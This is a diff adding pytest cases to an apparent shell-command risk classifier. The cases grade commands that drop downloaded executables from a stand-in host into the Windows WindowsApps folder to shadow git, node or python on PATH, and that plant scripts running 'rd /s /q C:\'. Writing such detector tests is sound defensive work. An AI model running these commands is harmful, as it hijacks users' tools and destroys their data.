@@ -175,3 +175,31 @@ PATH_FRONT = [
 @pytest.mark.parametrize(("command", "shell", "expected"), PATH_FRONT)
 def test_path_front_kept(command: str, shell: str, expected: object) -> None:
     assert level(command, shell) == expected, command
+
+
+# ---------------------------------------------------------------- the WindowsApps door
+WAPPS = "\\Microsoft\\WindowsApps"
+WINDOWS_APPS = [
+    (
+        "iwr https://x.example/g.exe -OutFile $env:LOCALAPPDATA" + WAPPS + "\\git.exe",
+        "powershell",
+        C,
+    ),
+    ("curl -sLo %LOCALAPPDATA%" + WAPPS + "\\node.exe https://x.example/n.exe", "cmd", C),
+    ("curl.exe -o $env:LOCALAPPDATA" + WAPPS + "\\py.exe https://x.example/p", "powershell", C),
+    ('Move-Item .\\x.exe "$env:LOCALAPPDATA' + WAPPS + '\\"', "powershell", C),
+    ("move /y x.exe %LOCALAPPDATA%" + WAPPS, "cmd", C),
+    ("cp x.exe /mnt/c/Users/bob/AppData/Local/Microsoft/WindowsApps/git.exe", "bash", C),
+    ("echo rd /s /q C:\\ > %LOCALAPPDATA%" + WAPPS + "\\git.cmd", "cmd", B),
+    ("Set-Content $env:LOCALAPPDATA" + WAPPS + "\\py.cmd 'rd /s /q C:\\Windows'", "powershell", B),
+    # look-alikes
+    ("echo del /q C:\\proj\\out > %LOCALAPPDATA%" + WAPPS + "\\git.cmd", "cmd", C),
+    ("iwr https://x.example/p.exe -OutFile $env:TEMP\\p.exe", "powershell", M),
+    ('Get-ChildItem "$env:LOCALAPPDATA' + WAPPS + '\\"', "powershell", S),
+    ('ls "$LOCALAPPDATA/Microsoft/WindowsApps/"', "bash", S),
+]
+
+
+@pytest.mark.parametrize(("command", "shell", "expected"), WINDOWS_APPS)
+def test_windows_apps_door(command: str, shell: str, expected: object) -> None:
+    assert level(command, shell) == expected, command
